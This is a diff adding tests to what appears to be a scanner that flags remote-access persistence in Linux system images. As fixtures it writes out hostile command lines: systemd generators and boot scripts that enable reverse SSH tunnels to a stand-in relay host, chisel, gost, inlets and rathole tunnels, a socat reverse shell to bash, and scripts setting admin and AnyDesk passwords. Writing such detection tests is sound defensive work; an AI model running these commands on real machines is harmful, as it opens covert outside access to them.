@@ -533,3 +533,65 @@ test('hostile files', (t) => {
 	});
 	t.true(all.jobs.length > 0);
 });
+
+const generates = (text: string, path = 'usr/lib/systemd/system-generators/larkspur') => debian({[path]: {text: `#!/bin/sh\n${text}`, mode: 0o755}});
+const wants = 'mkdir -p "$1/multi-user.target.wants"\nln -s ../t.service "$1/multi-user.target.wants/"\n';
+const relay = '/usr/bin/ssh -NR 0:localhost:22 t@relay.larkspur-queue.com';
+
+test(
+	'a unit that a generator writes and wants',
+	finds,
+	'remoteAccess',
+	generates(`cat > "$1/t.service" <<EOF\n[Unit]\nAfter=network.target\n[Service]\nExecStart=-${relay}\nEOF\n${wants}`),
+	['ssh -R relay.larkspur-queue.com @ t@relay.larkspur-queue.com'],
+);
+test(
+	'a unit that a generator writes line by line',
+	finds,
+	'remoteAccess',
+	generates(`echo "[Service]" > "$1/t.service"\necho "ExecStart=${relay}" >> "$1/t.service"\n${wants}`, 'etc/systemd/system-generators/larkspur'),
+	['ssh -R relay.larkspur-queue.com @ t@relay.larkspur-queue.com'],
+);
+test(
+	'a unit that a generator writes and nothing starts',
+	finds,
+	'remoteAccess',
+	generates(`printf '[Service]\\nExecStart=${relay}\\n' > "$1/t.service"\n`),
+	[],
+);
+test(
+	'a unit that a script writes and enables',
+	finds,
+	'remoteAccess',
+	boots(`tee /etc/systemd/system/t.service >/dev/null <<EOF\n[Service]\nExecStart=${relay}\nEOF\nsystemctl enable --now t`),
+	['ssh -R relay.larkspur-queue.com @ t@relay.larkspur-queue.com'],
+);
+test('what a generator does itself', finds, 'passwords', generates("echo 'admin:one' | chpasswd\n"), ['account admin fixed @ one']);
+
+for (const [command, expected] of [
+	['chisel client --auth a:b --keepalive 25s https://hub.larkspur-queue.com R:0:localhost:22', 'chisel https://hub.larkspur-queue.com'],
+	['chisel client 203.0.113.7:8080 R:22', 'chisel 203.0.113.7:8080'],
+	['chisel client 10.0.0.7:8080 R:22', undefined],
+	['chisel client hub.larkspur-queue.com 3000:localhost:3000', undefined],
+	['inlets-pro tcp client --url wss://exit.larkspur-queue.com:8123 --upstream localhost', 'inlets wss://exit.larkspur-queue.com:8123'],
+	['gost -L rtcp://:2222/:22 -F relay+tls://a:b@relay.larkspur-queue.com:443', 'gost relay.larkspur-queue.com:443'],
+	['gost -L :8080', undefined],
+	['npx -y localtunnel --port 22 --host https://lt.larkspur-queue.com', 'localtunnel https://lt.larkspur-queue.com'],
+	['socat TCP:relay.larkspur-queue.com:443 EXEC:/bin/bash', 'socat relay.larkspur-queue.com'],
+	['socat TCP-LISTEN:80,fork TCP:web.larkspur-queue.com:80', undefined],
+	['sshpass -p x ssh -NR 1:localhost:22 t@relay.larkspur-queue.com', 'ssh -R relay.larkspur-queue.com'],
+	['echo letmein1 | anydesk --set-password', 'AnyDesk'],
+] as const)
+	test(`finds: ${command}`, (t) => {
+		t.deepEqual(
+			found(boots(command), 'remoteAccess').map((one) => one.slice(0, one.indexOf(' @'))),
+			expected === undefined ? [] : [expected],
+		);
+	});
+test(
+	'a tunnel whose settings the command line names',
+	finds,
+	'remoteAccess',
+	boots('/opt/larkspur/rathole --client /opt/larkspur/link.toml', {'opt/larkspur/link.toml': '[client]\nremote_addr = "edge.larkspur-queue.com:2333"\n'}),
+	['rathole edge.larkspur-queue.com:2333 @ edge.larkspur-queue.com:2333'],
+);
